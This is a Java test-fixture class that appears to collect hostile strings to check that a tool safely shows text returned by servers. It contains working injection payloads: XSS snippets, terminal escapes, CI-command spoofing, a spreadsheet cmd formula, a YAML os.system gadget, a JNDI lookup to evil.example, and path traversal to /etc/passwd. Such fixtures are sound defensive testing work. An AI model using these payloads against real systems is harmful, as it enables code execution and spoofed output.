package io.loadline.hostile;

import java.util.List;
import java.util.stream.Stream;

/** What a server or a pod might say to whoever shows it. */
public final class HostileTexts {
  /** More than anybody should show. */
  private static final String LONG = "x".repeat(20_000);

  private HostileTexts() {}

  /** Some fifty. */
  public static List<String> all() {
    return Stream.of(characters(), markup(), ciCommands(), data(), others())
        .flatMap(List::stream)
        .toList();
  }

  private static List<String> characters() {
    return List.of(
        // Nothing, and what cannot be seen.
        "",
        "\u0000",
        "a\u0000\u0001\u0007\b\u007fb",
        "\u001b[31;1mred\u001b[0m\u001b[2J",
        "\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
        "\u009b2J\u0090x\u009c",
        "a\u200b\u200d\u2060\ufeffb",
        "\u202egnp.exe\u202c",
        "\u2066\u2067a\u2069\u061c",
        // No characters at all.
        "\ud800",
        "\udc00\ud800x",
        "\uffff\ufffe\ufffd",
        // Lines.
        "a\r\nInjected: yes\r\n\r\nb",
        "a\nPASS gate: all 9 objectives hold\nb",
        "a\u2028b\u2029c\u0085d\u000be\f");
  }

  private static List<String> markup() {
    return List.of(
        // HTML, SVG, XML.
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "</title></svg></details></table><script>alert(1)//",
        "</script><script>alert(1)</script><!--<script>",
        "<!-- --><![CDATA[ ]]>&lt;b&gt;&#x3c;&amp",
        "javascript:alert(1)",
        // Markdown.
        "[x](javascript:alert(1)) ![i](http://evil.example/i.png)",
        "| a | b |\n|---|---|\n| c |",
        "```\n# head\n```\n---\n",
        "<details open><summary>x</summary>",
        "@everyone #1 **b** __u__ ~~s~~ \\| `c`");
  }

  /** Commands of CI systems. */
  private static List<String> ciCommands() {
    return List.of(
        "::error file=a,line=1::pwned",
        "a\n::stop-commands::token\n::add-mask::b",
        "%0A::warning::x%0D%25",
        "##vso[task.setvariable variable=PATH]x",
        "##[group]x",
        "##teamcity[buildStatus status='SUCCESS']",
        "']|n##teamcity[testFailed name='x",
        "[[ATTACHMENT|/etc/passwd]]");
  }

  private static List<String> data() {
    return List.of(
        // Tables and formulas.
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)\",=HYPERLINK(\"http://evil.example\")",
        "a,b;c\td\"e\"\"f",
        // YAML and OpenMetrics.
        "key: value # comment",
        "- !!python/object/apply:os.system [id]",
        "*a &b {c: d} [e] > |\n  f",
        "null",
        "2026-01-01",
        "x\" 1 # {a=\"b\"} 2\n# EOF\nfake 3",
        "\\",
        "a\\\"\\n");
  }

  /** Templates, paths, other scripts, and length. */
  private static List<String> others() {
    return List.of(
        "${jndi:ldap://evil.example} {{7*7}} <%= 7 %>",
        "../../../../etc/passwd",
        "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \ud83d\ude00 e\u0301",
        LONG,
        "<b>".repeat(5_000));
  }

  /** How one is called in the report of the tests: that is a format, too. */
  static String name(String text) {
    StringBuilder name = new StringBuilder("text ");
    text.codePoints()
        .limit(30)
        .forEach(each -> name.append(each > ' ' && each < 127 ? Character.toString(each) : "."));
    return name.toString();
  }
}
